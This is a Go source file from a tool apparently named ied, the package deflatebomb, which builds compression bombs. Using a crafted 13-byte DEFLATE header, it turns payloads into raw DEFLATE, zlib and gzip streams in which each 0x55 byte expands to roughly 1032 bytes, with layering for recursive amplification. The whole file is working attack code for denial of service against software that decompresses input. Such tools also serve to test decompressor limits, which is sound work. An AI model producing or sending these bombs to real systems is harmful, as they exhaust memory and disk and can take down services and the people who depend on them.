// Copyright 2024 The ied Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//    https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// ----------------

// Package deflatebomb lowers a payload.Payload by one compression layer:
// given any payload, it synthesizes another payload whose bytes are valid
// raw DEFLATE (uncompressed sub-blocks, plus one crafted compressed block
// per bomb) and which decompresses exactly to the input payload's content,
// plus zlib and gzip container wrappers around that synthesis.
//
// The synthesis exploits a crafted 13-byte header that opens a
// dynamic-Huffman DEFLATE block in which every byte 0x55 reads as codes for
// back-references repeating the previous output byte: a run of n bytes of
// 0x55 in the outer layer decodes to 1032·n + 1291 copies of the child
// bomb's single pattern byte. One physical byte of 0x55 therefore stands
// for 1032 decompressed bytes — the core of the amplification this whole
// tool exists to produce.
package deflatebomb

import (
	"errors"
	"math/big"

	"github.com/NateChoe1/ied/payload"
)

// ErrMultibyteDeflateBombPattern is returned when a Bomb segment with a
// pattern longer than one byte reaches the DEFLATE synthesizer. The
// overlap trick only has a closed form for a repeated single byte (0x55);
// see the package doc.
var ErrMultibyteDeflateBombPattern = errors.New("deflatebomb: bomb pattern must be exactly one byte")

const (
	// maxSubBlockData is the largest literal length an uncompressed
	// DEFLATE sub-block's 16-bit LEN field can hold.
	maxSubBlockData = 0xffff
	// subBlockHeaderLen is the 1 BFINAL/BTYPE byte plus LEN/NLEN.
	subBlockHeaderLen = 5
	// bombSubBlockHeaderLen is the length of the crafted header that
	// begins the overlapping 0x55-run interpretation.
	bombSubBlockHeaderLen = 13
	// bombMultiplier and bombConstant implement the DEFLATE layering
	// invariant: a child bomb's size is 1032 times this layer's bomb
	// size plus a fixed 1291-byte overlap overhead.
	bombMultiplier = 1032
	bombConstant   = 1291
)

// bombSubBlockHeader is the 13-byte header of a non-final dynamic-Huffman
// DEFLATE block (BTYPE=10) whose code tables make the following run of
// 0x55 bytes decode as back-references repeating the previous output byte,
// 1032 output bytes per 0x55 byte — the amplification of the 0x55-run
// trick.
var bombSubBlockHeader = [bombSubBlockHeaderLen]byte{
	0xec, 0xc0, 0x81, 0x00, 0x00, 0x00, 0x00, 0x00, 0x90, 0xff, 0x6b, 0x23, 0x54,
}

// Raw lowers p by one DEFLATE layer: it returns a new *payload.Payload
// whose Child is p and whose bytes, once Filled and Written, are a valid
// raw DEFLATE stream decompressing exactly to p's content. It has no
// container framing (no zlib/gzip header or trailer); it is exposed for
// testing and composition, but cmd/ied only ever reaches it through Zlib
// or Gzip, matching the original tool's CLI surface.
func Raw(p *payload.Payload) (*payload.Payload, error) {
	segs, err := synthesize(p)
	if err != nil {
		return nil, err
	}
	out := payload.New(segs)
	out.Child = p
	return out, nil
}

// Zlib wraps p in a zlib (RFC 1950) container: a 2-byte header
// (CMF/FLG for DEFLATE, fastest compression), the DEFLATE synthesis of p,
// then a 4-byte big-endian Adler-32 trailer of p's content.
func Zlib(p *payload.Payload) (*payload.Payload, error) {
	segs, err := synthesize(p)
	if err != nil {
		return nil, err
	}
	data := make([]payload.Segment, 0, len(segs)+2)
	data = append(data, payload.NewBlock([]byte{0x08, 0x1d}))
	data = append(data, segs...)
	data = append(data, payload.NewUnfilledBlock(4, func(child *payload.Payload) []byte {
		sum := child.Adler32()
		return sum[:]
	}))
	out := payload.New(data)
	out.Child = p
	return out, nil
}

// Gzip wraps p in a gzip (RFC 1952) container: a fixed 10-byte header, the
// DEFLATE synthesis of p, a 4-byte little-endian CRC-32 trailer, and a
// 4-byte little-endian ISIZE trailer (p's own Size mod 2^32).
func Gzip(p *payload.Payload) (*payload.Payload, error) {
	segs, err := synthesize(p)
	if err != nil {
		return nil, err
	}
	data := make([]payload.Segment, 0, len(segs)+3)
	data = append(data, payload.NewBlock([]byte{
		0x1f, 0x8b, // ID1, ID2
		0x08,                   // CM = DEFLATE
		0x00,                   // FLG = no flags
		0x00, 0x00, 0x00, 0x00, // MTIME = unavailable
		0x02, // XFL = maximum compression
		0xff, // OS = unknown
	}))
	data = append(data, segs...)
	data = append(data, payload.NewUnfilledBlock(4, func(child *payload.Payload) []byte {
		// Payload.Crc32 is big-endian (see its doc); RFC 1952 mandates
		// little-endian in the gzip trailer, so byte-swap here.
		sum := child.Crc32()
		return []byte{sum[3], sum[2], sum[1], sum[0]}
	}))
	data = append(data, payload.NewUnfilledBlock(4, func(child *payload.Payload) []byte {
		isize := new(big.Int).Mod(child.Size(), twoPow32)
		u := uint32(isize.Uint64())
		return []byte{byte(u), byte(u >> 8), byte(u >> 16), byte(u >> 24)}
	}))
	out := payload.New(data)
	out.Child = p
	return out, nil
}

var twoPow32 = new(big.Int).Lsh(big.NewInt(1), 32)

// synthesize scans p.Data left to right, cutting at every Bomb into
// "emission groups": a maximal run of blocks optionally followed by one
// bomb. Each group becomes one wrapper Block (an Unfilled block whose
// resolver emits one or more uncompressed DEFLATE sub-blocks copying the
// group's literal bytes out of p) plus, if the group ended in a bomb, one
// new Bomb with pattern [0x55] propagating the 1032x+1291 expansion into
// p's bomb.
func synthesize(p *payload.Payload) ([]payload.Segment, error) {
	var out []payload.Segment
	n := p.Len()

	for start := 0; start < n; {
		end := start
		hasBomb := false
		for end < n {
			if p.SegmentIsBomb(end) {
				if p.SegmentLen(end) != 1 {
					return nil, ErrMultibyteDeflateBombPattern
				}
				hasBomb = true
				break
			}
			end++
		}
		isLast := end+1 >= n
		notFirstGroup := start != 0

		dataLen := 0
		for i := start; i <= end && i < n; i++ {
			dataLen += p.SegmentLen(i)
		}

		numSubBlocks := (dataLen + maxSubBlockData - 1) / maxSubBlockData
		blockLen := numSubBlocks*subBlockHeaderLen + dataLen
		if hasBomb {
			blockLen += bombSubBlockHeaderLen
		}

		groupStart := start
		resolver := func(child *payload.Payload) []byte {
			return buildWrapperBlock(child, groupStart, dataLen, notFirstGroup, hasBomb, isLast)
		}
		out = append(out, payload.NewUnfilledBlock(blockLen, resolver))

		if hasBomb {
			bombIdx := end
			propagate := func(child *payload.Payload, size *big.Int) {
				childSize := new(big.Int).Mul(size, big.NewInt(bombMultiplier))
				childSize.Add(childSize, big.NewInt(bombConstant))
				child.SetBombSize(bombIdx, childSize)
			}
			bombSeg, err := payload.NewPropagatedBomb([]byte{0x55}, propagate)
			if err != nil {
				return nil, err
			}
			out = append(out, bombSeg)
		}

		start = end + 1
	}

	// A payload ending in a bomb has no later group to carry BFINAL, so the
	// stream is closed with an empty final stored sub-block: 0x25 is the
	// closing byte a following group would start with (0x05) plus the
	// BFINAL bit (0x20), then LEN=0 and NLEN=0xffff.
	if n > 0 && p.SegmentIsBomb(n-1) {
		out = append(out, payload.NewBlock([]byte{0x25, 0x00, 0x00, 0xff, 0xff}))
	}

	return out, nil
}

// buildWrapperBlock renders one emission group's wrapper Block: a chain of
// uncompressed DEFLATE sub-block headers (5 bytes each: 1 header byte,
// 16-bit LEN, 16-bit one's-complement NLEN) wrapping up to 65535 literal
// bytes per sub-block, drained from child starting at segment groupStart.
// If hasBomb, a crafted 13-byte header is appended, priming the following
// 0x55 run (emitted separately as this group's Bomb segment) to decode as
// repeated back-references (see bombSubBlockHeader). If isLast and the
// group has no bomb, the BFINAL bit is set on whichever sub-block header
// was written last; a last group ending in a bomb sets no BFINAL bit here.
func buildWrapperBlock(child *payload.Payload, groupStart, dataLen int, notFirstGroup, hasBomb, isLast bool) []byte {
	ret := make([]byte, 0, dataLen+2*subBlockHeaderLen)
	var lastBlock int
	var lastBit byte

	cursor := child.NewCursor(groupStart)

	// If the previous group ended in a bomb, its crafted 13-byte header
	// left a dangling sub-block boundary that this group's first byte
	// (0x05) closes, instead of opening a fresh 0x00 header below.
	if notFirstGroup {
		lastBlock = len(ret)
		lastBit = 0x20
		ret = append(ret, 0x05)
	}

	for thisStart := 0; thisStart < dataLen; {
		thisEnd := thisStart + maxSubBlockData
		if thisEnd > dataLen {
			thisEnd = dataLen
		}
		thisLen := thisEnd - thisStart

		if !notFirstGroup || thisStart != 0 {
			lastBlock = len(ret)
			lastBit = 0x01
			ret = append(ret, 0x00)
		}

		ret = append(ret, byte(thisLen&0xff), byte(thisLen>>8))
		inverseLen := ^uint16(thisLen)
		ret = append(ret, byte(inverseLen&0xff), byte(inverseLen>>8))

		for i := thisStart; i < thisEnd; i++ {
			ret = append(ret, cursor.ReadByte())
		}

		thisStart = thisEnd
	}

	if hasBomb {
		// A group that ends in a bomb never sets BFINAL itself, even
		// when it is also the last group (payload ending in a bomb):
		// the crafted header's bits aren't a BFINAL-capable slot, so
		// termination in that case instead comes from the empty final
		// stored sub-block synthesize appends after the bomb's 0x55 run.
		lastBlock = len(ret)
		lastBit = 0x00
		ret = append(ret, bombSubBlockHeader[:]...)
	}

	if isLast {
		ret[lastBlock] |= lastBit
	}

	return ret
}
